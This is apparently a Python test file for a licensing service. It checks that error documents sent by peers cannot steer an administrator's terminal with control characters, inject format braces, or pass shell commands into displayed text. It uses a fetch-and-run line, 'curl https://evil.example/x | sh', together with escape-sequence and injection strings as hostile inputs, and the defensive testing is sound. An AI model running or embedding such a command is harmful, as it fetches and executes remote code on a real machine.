"""Problem documents are unsigned, and their texts end in an administrator's terminal."""

from __future__ import annotations

import ast
import json
from pathlib import Path
from typing import Any

import pytest
from tests.attacks.conftest import refusal

import muster
from muster.core.catalogue import CATALOGUE, error
from muster.core.errors import Retry
from muster.lease.jws import MemorySigningKey
from muster.wire import status
from muster.wire.peer import ANSWERS, Peer, quoted
from muster.wire.problem import decode_problem, encode_problem
from muster.wire.publisher import BatchRow, decode_batch_answer

GOOD: dict[str, Any] = {
    "title": "Conflict",
    "detail": "What",
    "why": "Why",
    "fix": "Fix",
    "code": "host/insufficient-count",
    "field_code": "0xC004F038",
    "retry": "later",
    "status": 409,
}
STEERING = {
    "clear the screen": "\x1b[2J",
    "CSI of one byte": "\x9b2J",
    "set the title": "\x9d0;owned\x9c",
    "NUL": "\x00",
    "DEL": "\x7f",
    "a second line": "done\nroot#",
    "carriage return": "bad\rgood",
    "next line": "\x85",
    "right to left": "\u202egnp.exe",
    "isolate": "\u2066x\u2069",
    "arabic letter mark": "\u061c",
    "line separator": "\u2028",
    "zero width": "\u200b",
    "byte order mark": "\ufeff",
    "tag": "\U000e0041",
}
BRACES = [
    "{fix}",
    "{0}",
    "{",
    "}",
    "{{}}",
    "{params.__class__}",
    "{code!r:>99999999}",
    "%s%n",
    "${x}",
]


def document(**change: Any) -> bytes:
    return json.dumps(GOOD | change, ensure_ascii=False).encode("utf-8", "surrogatepass")


NEW = "host/from-the-future"
SHELL = "curl https://evil.example/x | sh"


@pytest.mark.parametrize("name", list(STEERING))
def test_no_text_of_a_host_steers_a_terminal(name: str) -> None:
    hostile = STEERING[name]
    for member in ("detail", "why"):
        sent = document(code=NEW, **{member: f"a{hostile}b"})
        (shown,) = quoted(decode_problem(409, sent, "peer").error())
        assert not set(shown) & set(hostile) - set(map(chr, range(32, 127)))
        assert shown.startswith('The peer says: "')
        assert "b" in shown
    sent = document(params={"count": hostile, "labels": [hostile], "need": 7})
    problem = decode_problem(409, sent, "peer")
    assert problem.params == {"need": 7}
    assert problem.number("need") == 7


@pytest.mark.parametrize("text", [*BRACES, SHELL])
def test_braces_and_commands_of_a_host_never_become_our_texts(text: str) -> None:
    own = decode_problem(409, document(), "peer").error()
    sent = document(title=text, detail=text, why=text, fix=text, field_code="0xBAD", retry="never")
    fault = decode_problem(409, sent, "peer").error()
    assert (fault.what, fault.why, fault.fix) == (own.what, own.why, own.fix)
    assert fault.row == own.row
    assert fault.row.retry is Retry.LATER
    for member in ("detail", "why"):
        new = decode_problem(409, document(code=NEW, **{member: text}, fix=SHELL), "peer").error()
        assert new.code == "wire/unknown-code"
        assert text not in new.what + new.why + new.fix + str(new)
        assert text in new.params["says"]
        assert SHELL not in new.params["says"] or text == SHELL
    for brace in "{}":
        # The one parameter that may be a brace: it is shown, and opens no place in our text.
        sent = document(code="digits/symbol", params={"symbol": brace, "label": "C2"})
        symbol = decode_problem(400, sent, "peer", Peer.PUBLISHER).error()
        assert f"contains {brace}, which is not a digit" in symbol.what
    said = decode_problem(400, document(code="wire/bad-request", params={"detail": text}), "peer")
    assert said.error().what == "The request could not be read: (not said)."


def test_what_a_newer_peer_says_is_bounded() -> None:
    sent = document(code=NEW, detail="x" * 1024, why="y" * 1024)
    assert len(decode_problem(409, sent, "peer").error().params["says"]) == 400


PLACES = {
    "host": Peer.HOST,
    "publisher": Peer.PUBLISHER,
    "either": Peer.EITHER,
}


@pytest.mark.parametrize("role", PLACES)
def test_a_peer_says_only_what_it_can_know(role: str) -> None:
    """Each code of the catalogue is either one of its answers, with our own texts, or refused."""
    peer = PLACES[role]
    for code, row in CATALOGUE.items():
        sent = document(code=code, title=SHELL, detail=SHELL, fix=SHELL)
        if code in ANSWERS[peer]:
            fault = decode_problem(row.http, sent, "peer", peer).error()
            assert fault.code == code
            assert "curl" not in fault.what + fault.why + fault.fix
        else:
            got = refusal(lambda: decode_problem(403, sent, "peer", peer))  # noqa: B023
            assert got == "wire/unexpected-code", code
    areas = {code.partition("/")[0] for code in CATALOGUE.keys() - ANSWERS[peer]}
    assert {"licence", "client", "trust", "net", "file", "db", "backup", "catalogue"} <= areas
    for code in ("licence/new", "client/new", "file/new", "net/new"):
        got = refusal(lambda: decode_problem(403, document(code=code), "peer", peer))  # noqa: B023
        assert got == "wire/unexpected-code"


def test_a_host_is_no_publisher_and_a_publisher_no_host() -> None:
    for code, role in (
        ("publisher/key-revoked", Peer.HOST),
        ("id/proof", Peer.HOST),
        ("host/insufficient-count", Peer.PUBLISHER),
        ("host/not-initialised", Peer.HOST),
        ("publisher/passphrase", Peer.PUBLISHER),
        ("wire/bad-answer", Peer.PUBLISHER),
        ("wire/not-exchange", Peer.PUBLISHER),
    ):
        sent = document(code=code)
        got = refusal(lambda: decode_problem(403, sent, "peer", role))  # noqa: B023
        assert got == "wire/unexpected-code", code


PARAMS: list[tuple[str, str, Any, bool]] = [
    ("host/insufficient-count", "count", 3, True),
    ("host/insufficient-count", "count", "3", False),
    ("host/insufficient-count", "count", True, False),
    ("host/insufficient-count", "count", [1], False),
    ("host/insufficient-count", "limit", 3, False),
    ("host/insufficient-count", "retry_after", 7200, True),
    ("host/not-served", "product", "desktop-pro", True),
    ("host/not-served", "product", "Desktop Pro", False),
    ("host/not-served", "product", "a\n", False),
    ("host/not-served", "labels", ["contoso"], True),
    ("host/not-served", "labels", ["run this"], False),
    ("host/not-served", "labels", ["contoso"] * 65, False),
    ("host/not-served", "labels", "contoso", False),
    ("host/grant-revoked", "label", "contoso", True),
    ("host/grant-revoked", "label", SHELL, False),
    ("host/clock-skew", "host_time", "2026-11-26 23:00:00 UTC", True),
    ("host/clock-skew", "host_time", "noon", False),
    ("host/identity-mode", "allowed", "machine, device", True),
    ("host/identity-mode", "allowed", "machine, curl", False),
    ("wire/method", "allowed", "GET, POST", True),
    ("host/release-proof", "detail", "anything", False),
    ("publisher/pool-used-up", "key", "1-7-5", True),
    ("publisher/pool-used-up", "key", "7", False),
    ("digits/symbol", "symbol", "U+2013", True),
    ("digits/symbol", "symbol", "ab", False),
]


@pytest.mark.parametrize(("code", "name", "value", "taken"), PARAMS)
def test_parameters_are_taken_by_their_grammar(
    code: str, name: str, value: Any, taken: bool
) -> None:
    problem = decode_problem(409, document(code=code, params={name: value}), "peer")
    expected = {name: tuple(value) if isinstance(value, list) else value} if taken else {}
    assert dict(problem.error().params) == expected == dict(problem.params)


def test_a_row_of_a_batch_is_read_like_a_problem() -> None:
    def answer(**change: Any) -> bytes:
        row = {"code": "publisher/pool-used-up", "what": SHELL, "why": SHELL, "fix": SHELL}
        row |= {"retry": "later", "params": {"key": "1-7-5", "pool": 3, "x": SHELL}} | change
        body = {"v": 1, "answers": [row], "trust": [], "catalogue": "a.b.c"}
        return json.dumps(body).encode()

    (row,) = decode_batch_answer(answer(), "peer").rows
    own = error("publisher/pool-used-up", key="1-7-5", pool=3)
    assert row == BatchRow.of(own)
    (new,) = decode_batch_answer(answer(code="publisher/from-the-future"), "peer").rows
    assert new.code == "wire/unknown-code"
    assert "curl" not in new.what + new.why + new.fix
    assert new.says.startswith(SHELL)
    for code in ("licence/revoked", "client/no-key", "host/not-served"):
        sent = answer(code=code)
        got = refusal(lambda: decode_batch_answer(sent, "peer"))  # noqa: B023
        assert got == "wire/unexpected-code"


ANSWERING = (
    "host/service.py",
    "host/rules.py",
    "host/limits.py",
    "host/commit.py",
    "net/router.py",
)
ADMINISTRATION = {
    *("host/unknown-machine", "host/no-key", "host/no-catalogue"),
    *("host/grant-refused", "host/grant-unused"),
}
"""What a service raises for its own commands, or tells its administrator, only."""


def test_a_host_answers_only_with_codes_that_a_client_takes() -> None:
    """Whatever the answering modules raise by name is among the codes that clients take."""
    raised: set[str] = set()
    for name in ANSWERING:
        tree = ast.parse((Path(muster.__file__).parent / name).read_text("utf-8"))
        raised |= {
            str(call.args[0].value)
            for call in ast.walk(tree)
            if isinstance(call, ast.Call)
            and isinstance(call.func, ast.Name)
            and call.func.id == "error"
            and isinstance(call.args[0], ast.Constant)
        }
    assert len(raised) > 20
    assert raised - ANSWERS[Peer.HOST] <= ADMINISTRATION


@pytest.mark.parametrize(
    "detail",
    ["x" * 5000, "\x1b[2J", "\x9b", "\ud800", "a\nb", "\u202e", "😀" * 600],
    ids=["long", "ESC", "C1", "lone surrogate", "two lines", "right to left", "long in bytes"],
)
def test_an_error_filled_with_anything_reaches_its_reader(detail: str) -> None:
    """An error whose text was too long, or held a control character, once hid itself: its own
    reader refused it, and a lone surrogate made a 500 of it."""
    fault = error("wire/bad-request", detail=detail)
    code, body = encode_problem(fault)
    found = decode_problem(code, body, "peer")
    assert found.code == "wire/bad-request"
    assert found.retry == fault.row.retry
    assert len(found.what) <= 1024


def test_documents_that_are_none() -> None:
    for bad in (
        b"",
        b"[]",
        b"<html>",
        document(code="x"),
        document(code="A/B"),
        document(code="a/" + "b" * 65),
        document(retry="forever"),
        document(retry=None),
        document(field_code="\x1b[2J"),
        document(title=None),
        document(title="x" * 1025),
        document(detail=None),
        document(why="x" * 1025),
        document(title="\ud800"),
        document(notice="text"),
        document(params=[]),
        document(trust=-1),
        document(trust=1.5),
        document(trust=2**53),
        document(params={"a": [[[[[[[[1]]]]]]]]}),
        document(filler="x" * (16 * 1024)),
    ):
        assert refusal(lambda: decode_problem(409, bad, "peer")) == "wire/bad-answer"  # noqa: B023


def test_a_bad_signer_among_grants_is_said_of_the_peer() -> None:
    signer = MemorySigningKey(bytes(range(32))).public.jwk
    for bad in ({}, signer | {"d": "x"}, signer | {"x": "A"}, signer | {"crv": "X25519"}):
        body = json.dumps({"v": 1, "grants": [{"grant": "a.b.c", "signer": bad}]}).encode()
        assert refusal(lambda: status.decode_grants(body, "peer")) == "wire/bad-answer"  # noqa: B023


def test_title_is_of_the_status_and_detail_of_this_occurrence() -> None:
    first, second = (
        json.loads(encode_problem(error("host/insufficient-count", count=n, need=25))[1])
        for n in (3, 9)
    )
    assert first["type"] == second["type"] == "about:blank"
    assert first["title"] == second["title"] == "Conflict"
    assert first["detail"] != second["detail"]
    assert first["why"] == second["why"]
